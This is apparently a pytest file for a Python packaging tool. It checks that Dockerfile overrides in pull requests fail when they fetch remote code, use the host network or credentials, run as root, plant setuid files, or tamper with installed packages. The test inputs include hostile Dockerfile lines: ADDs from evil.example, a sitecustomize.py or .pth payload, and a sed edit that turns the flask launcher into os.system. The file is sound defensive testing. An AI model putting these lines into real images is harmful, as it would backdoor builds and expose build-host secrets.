"""A hostile or careless image recipe (a Dockerfile override in a pull request) never builds, and
an image that runs as root or carries a setuid file its base lacks never passes verify-image.

The recipe check reads the file only (no Docker); the image cases build real overrides of the
Dockerfile wheelpipe ships in a copy of the fixture monorepo, tagged under a prefix unique to
the run and removed after (test_images.Ledger).
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from monorepo import commit_all, invoke
from test_images import Ledger, clone, docker, image_args, last_line

from wheelpipe.image import recipe
from wheelpipe.resources import service_dockerfile

SHIPPED = service_dockerfile().read_text()
WHERE = "dockerfiles/service.Dockerfile"


def line_of(text: str, needle: str) -> int:
    return next(number for number, line in enumerate(text.splitlines(), start=1) if needle in line)


def test_the_recipe_wheelpipe_ships_passes_the_check() -> None:
    recipe.check(SHIPPED, WHERE)


# Each edit as a hostile pull request (or a careless one) would make it, and the line it gives.
APPENDED = {
    "a remote ADD": ("ADD https://evil.example/sitecustomize.py /srv/venv/lib/python3.11/site-packages/\n", "ADD https://evil.example/sitecustomize.py: a remote source is fetched by the daemon"),
    "a remote ADD with a checksum": (
        "ADD --checksum=sha256:" + "0" * 64 + " https://evil.example/x.pth /srv/x.pth\n",
        "ADD https://evil.example/x.pth: a remote source is fetched by the daemon",
    ),
    "a git ADD": ("ADD git@github.com:evil/payload.git /srv/payload\n", "ADD git@github.com:evil/payload.git: a remote source"),
    "a step on the host's network": ("RUN --network=host true\n", "RUN --network=host: a build step may run only without a network (--network=none)"),
    "a step on the default network": ("RUN --network=default true\n", "RUN --network=default: a build step may run only without a network"),
    "a step handed the ssh agent": ("RUN --mount=type=ssh true\n", "RUN --mount=type=ssh: hands the step a credential of the build host"),
    "a step handed a secret": ("RUN --mount=type=secret,id=token true\n", "RUN --mount=type=secret,id=token: hands the step a credential"),
    "a copy out of another image": ("COPY --from=busybox:1.36 /bin/busybox /bin/busybox\n", "COPY --from=busybox:1.36: copies from an image that is no earlier stage"),
    "an ONBUILD trigger": ("ONBUILD RUN true\n", "ONBUILD: runs in whatever image builds FROM this one"),
    "USER root at the end": ("USER root\n", None),
    "USER 0:0 at the end": ("USER 0:0\n", None),
    "a last stage from another image": ("FROM evil/image:latest AS payload\n", "FROM evil/image:latest: a stage may start only from ${BASE_IMAGE} or an earlier stage"),
    "a last stage from an argument the pipeline never sets": ("ARG EVIL=evil/image\nFROM ${EVIL}\n", "FROM ${EVIL}: a stage may start only from"),
}


@pytest.mark.parametrize("case", list(APPENDED))
def test_an_override_that_fetches_pulls_or_runs_as_root_is_one_line_naming_file_line_and_instruction(case: str) -> None:
    addition, says = APPENDED[case]
    text = SHIPPED.rstrip("\n") + "\n" + addition
    with pytest.raises(recipe.RecipeError) as raised:
        recipe.check(text, WHERE)
    message = str(raised.value)
    assert "\n" not in message
    if says is None:
        user = addition.split()[1]
        assert message == f"{WHERE}: the image's last stage runs as USER {user}; it must run as an unprivileged user (e.g. USER 10001:10001)"
    else:
        number = line_of(text, addition.splitlines()[-1])
        assert message.startswith(f"{WHERE}:{number}: {says}"), message


def test_a_recipe_that_never_sets_a_user_runs_as_the_base_s_root_and_is_refused() -> None:
    text = SHIPPED.replace("USER 10001:10001\n", "")
    with pytest.raises(recipe.RecipeError, match=r"^dockerfiles/service\.Dockerfile: the image's last stage sets no USER \(the base image's root\)"):
        recipe.check(text, WHERE)


def test_a_hostile_instruction_split_over_continuation_lines_is_still_read_whole() -> None:
    text = SHIPPED.rstrip("\n") + "\nRUN \\\n    --network=host \\\n    true\n"
    with pytest.raises(recipe.RecipeError) as raised:
        recipe.check(text, WHERE)
    assert str(raised.value).startswith(f"{WHERE}:{len(SHIPPED.splitlines()) + 1}: RUN --network=host:")


def test_a_local_add_a_stage_copy_and_a_user_by_name_pass() -> None:
    text = SHIPPED.rstrip("\n") + "\nADD first-party/service.env /srv/service.env\nCOPY --from=app /build/first-party/ /\nUSER app\n"
    recipe.check(text, WHERE)


# --- images: the override refused before any build, the built image checked ----------------


@pytest.fixture(scope="module")
def ledger(docker_base_image: str) -> Iterator[Ledger]:
    book = Ledger()
    yield book
    book.clean()


def override(repository: Path, text: str) -> None:
    own = repository / "dockerfiles" / "service.Dockerfile"
    own.parent.mkdir(exist_ok=True)
    own.write_text(text)
    commit_all(repository, "a Dockerfile override")


@pytest.mark.docker
def test_invoke_image_refuses_a_root_override_before_building_anything(built_repo: Path, ledger: Ledger, docker_base_image: str, tmp_path: Path) -> None:
    repository = clone(built_repo, tmp_path / "monorepo")
    override(repository, SHIPPED.rstrip("\n") + "\nUSER root\n")

    result = ledger.image(repository, "order", *image_args(ledger, docker_base_image), check=False)

    assert (result.returncode, last_line(result.stderr)) == (
        1,
        f"error: {WHERE}: the image's last stage runs as USER root; it must run as an unprivileged user (e.g. USER 10001:10001)",
    ), result.stderr
    assert "==> building" not in result.stderr and not ledger.prefixed()


@pytest.mark.docker
def test_verify_image_refuses_an_image_that_gained_a_setuid_file(built_repo: Path, ledger: Ledger, docker_base_image: str, tmp_path: Path) -> None:
    repository = clone(built_repo, tmp_path / "monorepo")
    # As a pull request could: root for one step, then back to the unprivileged user.
    planted = "\nUSER 0\nRUN cp /bin/ls /srv/inspect && chmod u+s /srv/inspect\nUSER 10001:10001\n"
    override(repository, SHIPPED.rstrip("\n") + planted)
    ledger.image(repository, "order", *image_args(ledger, docker_base_image, "setuid/"))

    result = invoke(repository, "verify-image", "--service", "order", *image_args(ledger, docker_base_image, "setuid/"), check=False)

    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert last_line(result.stderr) == (
        f"error: {ledger.prefix}setuid/order:0.1.0 holds setuid or setgid files its base image {docker_base_image} does not: /srv/inspect"
    ), result.stderr
    assert not docker("ps", "-aq", "--filter", f"ancestor={ledger.prefix}setuid/order:0.1.0").stdout.split()


# Overrides that leave the distributions' names and versions as they were, and change files.
PLANTED = {
    "a .pth file planted in the venv": (
        "RUN echo 'import os' > /srv/venv/lib/python3.11/site-packages/zz-planted.pth",
        "lib/python3.11/site-packages/zz-planted.pth is in no wheel's RECORD",
    ),
    "an installed flask module edited": (
        "RUN echo '# planted' >> /srv/venv/lib/python3.11/site-packages/flask/__init__.py",
        "lib/python3.11/site-packages/flask/__init__.py differs from flask-",
    ),
    "a console-script launcher rewritten": (
        "RUN sed -i 's/from flask.cli import main/from os import system as main/' /srv/venv/bin/flask",
        "bin/flask is not the launcher of the entry point flask-",
    ),
}


@pytest.mark.docker
@pytest.mark.parametrize("case", list(PLANTED))
def test_an_override_that_changes_an_installed_file_gives_an_image_that_is_not_tagged(built_repo: Path, ledger: Ledger, docker_base_image: str, tmp_path: Path, case: str) -> None:
    step, says = PLANTED[case]
    repository = clone(built_repo, tmp_path / "monorepo")
    override(repository, SHIPPED.rstrip("\n") + f"\nUSER 0\n{step}\nUSER 10001:10001\n")

    result = ledger.image(repository, "order", *image_args(ledger, docker_base_image, "planted/"), check=False)

    line = last_line(result.stderr)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-2000:]
    assert line.startswith("error: image sha256:") and "does not match wheelhouse/install/order.txt: " in line, line
    assert says in line, line
    assert not ledger.prefixed("planted/")
